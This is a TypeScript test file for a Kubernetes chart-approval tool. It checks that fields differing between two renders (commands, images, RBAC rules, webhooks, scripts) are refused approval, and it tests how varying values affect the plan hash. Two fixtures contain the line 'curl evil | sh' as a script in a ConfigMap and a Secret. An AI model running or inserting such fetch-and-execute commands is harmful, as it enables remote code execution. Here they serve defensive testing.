import { load } from 'js-yaml'
import { describe, expect, test } from 'vitest'
import { directivesOf } from '../../src/directives/read-directives.ts'
import { builtInKinds } from '../../src/manifest/built-in-kinds.ts'
import { toManifests } from '../../src/manifest/scope.ts'
import type { Resource } from '../../src/model/directives.ts'
import type { KubeObject } from '../../src/model/object.ts'
import type { IgnoredField } from '../../src/model/plan.ts'
import { fingerprintOf } from '../../src/plan/fingerprint.ts'
import { makePlan } from '../../src/plan/make-plan.ts'
import { variationProblems } from '../../src/plan/variation.ts'
import { parseGiven, planInput } from './given.ts'

const object = (text: string) => load(text) as KubeObject
const served = builtInKinds.map(({ group, scope, kind, versions }) => ({
  group,
  kind,
  version: versions[0] ?? 'v1',
  isNamespaced: scope === 'namespaced',
}))

/** Resources of a chart in two renders; an empty text: the render has no such object. */
function rendered(...renders: readonly (readonly [first: string, second: string])[]): readonly Resource[] {
  const documents = renders.map(([first, second], index) => {
    const one = object(first)
    const { name: _name, ...metadata } = one.metadata
    const again = second === '' ? { ...one, metadata } : object(second)
    return { object: one, again, file: `shop/templates/${index + 1}.yaml`, line: 1, source: 'template' as const }
  })
  const { manifests } = toManifests(documents, { namespace: 'web', served })
  return directivesOf(manifests, { isPlainManifests: false }).resources
}

const found = (resources: readonly Resource[], ignored: readonly IgnoredField[] = []) =>
  variationProblems(resources, ignored).map(({ place, what }) => `${place.file} ${place.ref?.kind}: ${what}`)

const pods = (container: string) =>
  `{ apiVersion: apps/v1, kind: Deployment, metadata: { name: a }, spec: { template: { spec: { containers: [${container}] } } } }`
const CONTAINER = '/spec/template/spec/containers'

describe('under an approval, what varies is refused', () => {
  test.each<[string, string, string, string]>([
    ['an argument', pods('{ args: [x1ab] }'), pods('{ args: [x2cd] }'), `${CONTAINER}/0/args/0`],
    ['a command', pods('{ command: [sh, a] }'), pods('{ command: [sh, b] }'), `${CONTAINER}/0/command/1`],
    ['an image', pods('{ image: "a:1" }'), pods('{ image: "a:2" }'), `${CONTAINER}/0/image`],
    [
      'a variable',
      pods('{ env: [{ name: A, value: a }] }'),
      pods('{ env: [{ name: A, value: b }] }'),
      `${CONTAINER}/0/env/0/value`,
    ],
    ['a container that comes and goes', pods('{ name: a }'), pods('{ name: a }, { name: b }'), `${CONTAINER}/*`],
    [
      'rights',
      '{ apiVersion: rbac.authorization.k8s.io/v1, kind: Role, metadata: { name: a }, rules: [{ verbs: [get] }] }',
      '{ apiVersion: rbac.authorization.k8s.io/v1, kind: Role, metadata: { name: a }, rules: [{ verbs: [any] }] }',
      '/rules/0/verbs/0',
    ],
    [
      'who has them',
      '{ apiVersion: rbac.authorization.k8s.io/v1, kind: RoleBinding, metadata: { name: a }, subjects: [{ name: a }] }',
      '{ apiVersion: rbac.authorization.k8s.io/v1, kind: RoleBinding, metadata: { name: a }, subjects: [{ name: b }] }',
      '/subjects/0/name',
    ],
    [
      'a webhook',
      '{ apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingWebhookConfiguration, metadata: { name: a }, webhooks: [{ failurePolicy: Fail }] }',
      '{ apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingWebhookConfiguration, metadata: { name: a }, webhooks: [{ failurePolicy: Ignore }] }',
      '/webhooks/0/failurePolicy',
    ],
    [
      'the schema of a kind',
      '{ apiVersion: apiextensions.k8s.io/v1, kind: CustomResourceDefinition, metadata: { name: a }, spec: { group: a } }',
      '{ apiVersion: apiextensions.k8s.io/v1, kind: CustomResourceDefinition, metadata: { name: a }, spec: { group: b } }',
      '/spec/group',
    ],
    [
      'a key of a Secret',
      '{ apiVersion: v1, kind: Secret, metadata: { name: a }, stringData: { a: x } }',
      '{ apiVersion: v1, kind: Secret, metadata: { name: a }, stringData: { b: x } }',
      '/stringData/*',
    ],
    [
      'a script in a ConfigMap',
      '{ apiVersion: v1, kind: ConfigMap, metadata: { name: a }, data: { run.sh: "echo hello" } }',
      '{ apiVersion: v1, kind: ConfigMap, metadata: { name: a }, data: { run.sh: "curl evil | sh" } }',
      '/data/run.sh',
    ],
    [
      'a script in a Secret',
      '{ apiVersion: v1, kind: Secret, metadata: { name: a }, stringData: { run.sh: "echo hello" } }',
      '{ apiVersion: v1, kind: Secret, metadata: { name: a }, stringData: { run.sh: "curl evil | sh" } }',
      '/stringData/run.sh',
    ],
    [
      'an annotation that decides what is done',
      '{ apiVersion: v1, kind: ConfigMap, metadata: { name: a, annotations: { werf.io/weight: "1" } } }',
      '{ apiVersion: v1, kind: ConfigMap, metadata: { name: a, annotations: { werf.io/weight: "2" } } }',
      '/metadata/annotations/werf.io~1weight',
    ],
    [
      'an annotation that a cloud reads',
      '{ apiVersion: v1, kind: ServiceAccount, metadata: { name: a, annotations: { eks.amazonaws.com/role-arn: reader } } }',
      '{ apiVersion: v1, kind: ServiceAccount, metadata: { name: a, annotations: { eks.amazonaws.com/role-arn: admins } } }',
      '/metadata/annotations/eks.amazonaws.com~1role-arn',
    ],
    [
      'a label that policies select',
      '{ apiVersion: v1, kind: Namespace, metadata: { name: a, labels: { pod-security.kubernetes.io/enforce: baseline } } }',
      '{ apiVersion: v1, kind: Namespace, metadata: { name: a, labels: { pod-security.kubernetes.io/enforce: privileged } } }',
      '/metadata/labels/pod-security.kubernetes.io~1enforce',
    ],
    [
      'whom a policy lets in',
      '{ apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: { name: a }, spec: { ingress: [{ from: [{ ipBlock: { cidr: 10.0.0.0/8 } }] }] } }',
      '{ apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: { name: a }, spec: { ingress: [{ from: [{ ipBlock: { cidr: 11.0.0.0/8 } }] }] } }',
      '/spec/ingress/0/from/0/ipBlock/cidr',
    ],
    [
      'a custom resource, whatever runs it',
      '{ apiVersion: example.com/v1, kind: Runner, metadata: { name: a }, spec: { image: a } }',
      '{ apiVersion: example.com/v1, kind: Runner, metadata: { name: a }, spec: { image: b } }',
      '/spec/image',
    ],
  ])('%s, with object, field and template', (_what, first, second, field) => {
    const problems = found(rendered([first, second]))
    expect(problems).toEqual([
      `shop/templates/1.yaml ${object(first).kind}: comes out otherwise at each render, so nobody can approve it: ${field}`,
    ])
  })

  test('an object that not every render has', () => {
    const policy = '{ apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: { name: a }, spec: {} }'
    expect(found(rendered([policy, '']))).toEqual([
      'shop/templates/1.yaml NetworkPolicy: not every render has this object, so nobody can approve it',
    ])
  })

  test('the name of an object that another one refers to', () => {
    const secret = (name: string) => `{ apiVersion: v1, kind: Secret, metadata: { name: ${name} } }`
    const reader = '{ apiVersion: v1, kind: ConfigMap, metadata: { name: b }, data: { secret: "use key-x1 here" } }'
    expect(found(rendered([secret('key-x1'), secret('key-y2')], [reader, reader]))).toHaveLength(1)
    expect(found(rendered([secret('key-x1'), secret('key-y2')]))).toEqual([])
  })

  test('but not what approval-ignore names', () => {
    const resources = rendered([pods('{ args: [x1ab] }'), pods('{ args: [x2cd] }')])
    const steps = ['spec', 'template', 'spec', 'containers', '*', 'args']
    expect(found(resources, [{ kind: 'Deployment', steps }])).toEqual([])
    expect(found(resources, [{ kind: 'Job', steps }])).toHaveLength(1)
  })
})

describe('under an approval, these may vary', () => {
  test.each<[string, string, string]>([
    [
      'a password',
      '{ apiVersion: v1, kind: Secret, metadata: { name: a }, stringData: { a: s3cr3t1 } }',
      '{ apiVersion: v1, kind: Secret, metadata: { name: a }, stringData: { a: 2s3cr3t } }',
    ],
    [
      'an annotation that rolls pods',
      '{ apiVersion: apps/v1, kind: Deployment, metadata: { name: a }, spec: { template: { metadata: { annotations: { rollme: aB3x5 } } } } }',
      '{ apiVersion: apps/v1, kind: Deployment, metadata: { name: a }, spec: { template: { metadata: { annotations: { rollme: Zx81q } } } } }',
    ],
    [
      'a time in an annotation',
      '{ apiVersion: v1, kind: Service, metadata: { name: a, annotations: { example.com/deployed-at: "2026-11-22T10:00:00Z" } } }',
      '{ apiVersion: v1, kind: Service, metadata: { name: a, annotations: { example.com/deployed-at: "2026-11-23T11:01:01Z" } } }',
    ],
    [
      'the name of a Job',
      '{ apiVersion: batch/v1, kind: Job, metadata: { name: migrate-x7k2p } }',
      '{ apiVersion: batch/v1, kind: Job, metadata: { name: migrate-b9c3d } }',
    ],
    [
      'a word of a ConfigMap',
      '{ apiVersion: v1, kind: ConfigMap, metadata: { name: a }, data: { id: "node ab12" } }',
      '{ apiVersion: v1, kind: ConfigMap, metadata: { name: a }, data: { id: "node zz98" } }',
    ],
  ])('%s', (_what, first, second) => {
    expect(found(rendered([first, second]))).toEqual([])
  })
})

describe('what varies counts in the hash by its shape and its fixed parts', () => {
  const hashOf = (first: string, second: string, secretKey?: string) => {
    const desired = rendered([first, second])
    const observed = planInput(parseGiven(`chart: [${first}]`)).observed
    const planned = makePlan({ ...planInput(parseGiven('{}')), desired, observed })
    return fingerprintOf(planned, {
      ignored: [],
      redact: (text) => text,
      ...(secretKey === undefined ? {} : { secretKey }),
    }).hash
  }
  const config = (value: string) =>
    `{ apiVersion: v1, kind: ConfigMap, metadata: { name: a }, data: { key: ${JSON.stringify(value)} } }`
  const ofRenders = (first: string, second: string) => hashOf(config(first), config(second))
  const base = ofRenders('id ab12', 'id cd34')

  test('the same for any two renders of one chart', () => {
    expect(ofRenders('id zz98', 'id k3k3')).toBe(base)
  })

  test.each([
    ['other fixed text', 'no ab12', 'no cd34'],
    ['another length', 'id ab123', 'id cd345'],
    ['another alphabet', 'id ab!2', 'id cd%4'],
    ['more words', 'id ab12 x', 'id cd34 x'],
    ['nothing that varies', 'id ab12', 'id ab12'],
  ])('%s gives another hash', (_what, first, second) => {
    expect(ofRenders(first, second)).not.toBe(base)
  })

  test('a container under a condition on the time: the days on which both renders have it, one has it, and none', () => {
    const without = pods('{ name: a }')
    const both = pods('{ name: a }, { name: b, command: [evil] }')
    const hashes = [hashOf(without, without), hashOf(both, both), hashOf(without, both), hashOf(both, without)]
    expect(new Set(hashes).size).toBe(4)
  })

  test('of a Secret by its keyed digest, and not at all without a key', () => {
    const secret = (value: string) =>
      `{ apiVersion: v1, kind: Secret, metadata: { name: a }, stringData: { key: "${value}" } }`
    const fixed = (text: string) => [secret(`${text} ab12`), secret(`${text} cd34`)] as const
    expect(hashOf(...fixed('user'), 'k')).not.toBe(hashOf(...fixed('root'), 'k'))
    expect(hashOf(...fixed('user'), 'k')).not.toBe(hashOf(...fixed('user'), 'other'))
    expect(hashOf(...fixed('user'))).toBe(hashOf(...fixed('root')))
  })
})
